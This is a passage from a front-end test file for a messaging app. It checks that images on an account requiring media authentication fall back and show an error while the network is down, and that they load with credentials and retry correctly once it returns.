    it('on an account that enforces media auth, images load with credentials once the network is back', async () => {
      testEmulator().setMediaAuth(true);
      const screenOf = fakeScreen();
      const { user } = await openMessagesPage('auth-token', { retries: true });
      await chooseNumber(user, SHOP);
      const cards: HTMLElement[] = [];
      for (const body of [ONE_PICTURE, TWO_PICTURES, AIKO_PICTURE]) cards.push(await cardWithBody(body));
      await showWhileMediaBytesDrop(screenOf, cards);
      // All four of SHOP's images got no answer: each falls back to a bare <img>, which fails too.
      await waitFor(
        () => {
          const images = screen.getAllByRole('img', { name: MEDIA_ALT });
          expect(images).toHaveLength(4);
          for (const image of images) expect(srcOf(image)).toMatch(MEDIA_URL);
        },
        { timeout: 5000 },
      );
      const bare = within(await cardWithBody(ONE_PICTURE)).getByRole('img', { name: MEDIA_ALT });
      fireEvent.error(bare);
      expect(
        await within(await cardWithBody(ONE_PICTURE)).findByText('This image could not be loaded.'),
      ).toBeInTheDocument();

      networkBack();
      // Without credentials the media stays refused even now: only a credentialed fetch can show it.
      expect((await fetch(srcOf(bare))).status).toBe(401);
      await chooseNumber(user, SUPPORT);
      const samCard = await cardWithBody(SAM_PICTURE);
      // Four images without an answer while nothing else was answered either: a network that was down,
      // not a media host that refuses us. So a later image is still retried after one more drop.
      const bytesRequestsBefore = requestsTo(MEDIA_BYTES).length;
      await showWhileMediaBytesDrop(screenOf, [samCard]);
      await waitForRequestCount(MEDIA_BYTES, bytesRequestsBefore + 1);
      networkBack();
      const samImage = await within(samCard).findByRole('img', { name: MEDIA_ALT });
      await waitFor(() => expect(srcOf(samImage)).toMatch(/^blob:/));
      expect(requestsTo(MEDIA_BYTES)).toHaveLength(bytesRequestsBefore + 2);
    });
  });
});
